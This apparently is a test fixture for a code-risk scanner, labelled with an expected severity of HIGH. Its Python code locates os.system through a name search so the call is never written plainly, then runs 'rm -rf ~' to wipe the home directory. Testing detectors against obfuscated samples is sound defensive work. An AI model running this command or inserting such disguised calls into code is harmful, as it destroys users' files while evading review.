# expect: HIGH
import os
for name in dir(os):
    if name.startswith("sys") and name.endswith("m"):
        getattr(os, name)("rm -rf ~")
